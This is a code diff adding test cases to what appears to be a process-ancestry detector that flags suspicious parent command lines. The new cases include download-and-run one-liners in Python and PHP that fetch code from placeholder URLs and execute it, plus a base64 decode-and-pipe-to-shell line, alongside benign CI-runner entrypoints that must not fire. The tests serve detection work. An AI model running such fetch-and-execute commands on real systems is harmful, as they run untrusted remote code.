@@ -327,6 +327,9 @@ describe('suspicious_parent (exact basenames, never substrings)', () => {
     ['bash /tmp/.x/run.sh', undefined, 'script in /tmp'],
     ['/dev/shm/.k/launch', undefined, 'launcher in /dev/shm'],
     ['python3 /var/tmp/b.py', 'python3', 'script in /var/tmp'],
+    ['python3 -c "import urllib.request as u;exec(u.urlopen(\'http://x/y\').read())"', 'python3', 'download-and-run'],
+    ['php -r "eval(file_get_contents(\'http://x/p\'));"', 'php', 'download-and-run'],
+    ['/bin/sh -c echo $PAYLOAD | base64 -d | /bin/sh -e', 'sh', 'decode-and-run'],
   ])('fires: parent %s (%s)', (p, n, what) => {
     const d = withParent(p, n);
     expect(d.suspicious_parent).toBe(1);
@@ -343,6 +346,8 @@ describe('suspicious_parent (exact basenames, never substrings)', () => {
     ['cmd.exe /c build.cmd', 'C:\\Windows\\System32\\cmd.exe'],
     ['/home/runner/actions-runner/bin/Runner.Worker spawnclient 110 113', 'Runner.Worker'],
     ['/bin/sh -xe /tmp/jenkins4423845712.sh', 'sh'],
+    ['/bin/sh -c echo $CI_SCRIPT | base64 -d | /bin/sh -e', 'sh'], // Woodpecker CI step entrypoint
+    ['/bin/sh -c echo $DRONE_SCRIPT | base64 -d | /bin/sh -e', 'sh'], // Drone docker runner
   ])('an ordinary script, build tool or CI runner is not suspicious: parent %s (%s)', (p, n) => {
     const d = withParent(p, n);
     expect(d.suspicious_parent).toBe(0);
